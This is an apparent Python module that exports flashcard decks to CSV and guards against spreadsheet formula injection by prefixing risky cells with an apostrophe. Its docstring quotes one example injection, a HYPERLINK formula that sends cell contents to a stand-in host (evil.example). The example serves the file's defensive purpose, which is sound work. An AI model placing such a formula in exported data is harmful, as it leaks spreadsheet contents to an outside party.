"""CSV export: one row per card, for spreadsheets and other tools.

Columns: id, deck, kind, topic, question, answer, explanation, tags, lab. Multi-line cells (the
choices under a question, several accepted answers) keep their line breaks inside quotes; tags are
joined with "; ". Card text is written as it is, Markdown and all. The lab column holds the linked
lab's name and its parameters (`prompt-vs-prefix task=sort steps=200`). `deck export --bom`
starts the file with a UTF-8 byte order mark, which Excel needs to read UTF-8.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also after
a tab or a carriage return), so a card reading `=HYPERLINK("http://evil.example/?"&A1)` would
become a live link that leaks the sheet: such cells get a `'` in front, which spreadsheets read
as "this is text" and do not show (OWASP's advice for CSV injection).
"""

from __future__ import annotations

import csv
import io

from studykit.deck.export.plain import answer_text, lab_text, question_text
from studykit.deck.model import Deck

COLUMNS = ("id", "deck", "kind", "topic", "question", "answer", "explanation", "tags", "lab")
TAG_SEPARATOR = "; "
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: str) -> str:
    """`value` as a cell no spreadsheet runs as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def to_csv(decks: list[Deck]) -> str:
    """Every card of every deck as a CSV table with a header row (RFC 4180 quoting, \\r\\n rows)."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS)
    writer.writeheader()
    for deck in decks:
        for card in deck.cards:
            row = {
                "id": card.id,
                "deck": deck.id,
                "kind": card.kind,
                "topic": card.topic,
                "question": question_text(card),
                "answer": answer_text(card),
                "explanation": card.explanation,
                "tags": TAG_SEPARATOR.join(card.tags),
                "lab": lab_text(card),
            }
            writer.writerow({column: cell(value) for column, value in row.items()})
    return buffer.getvalue()
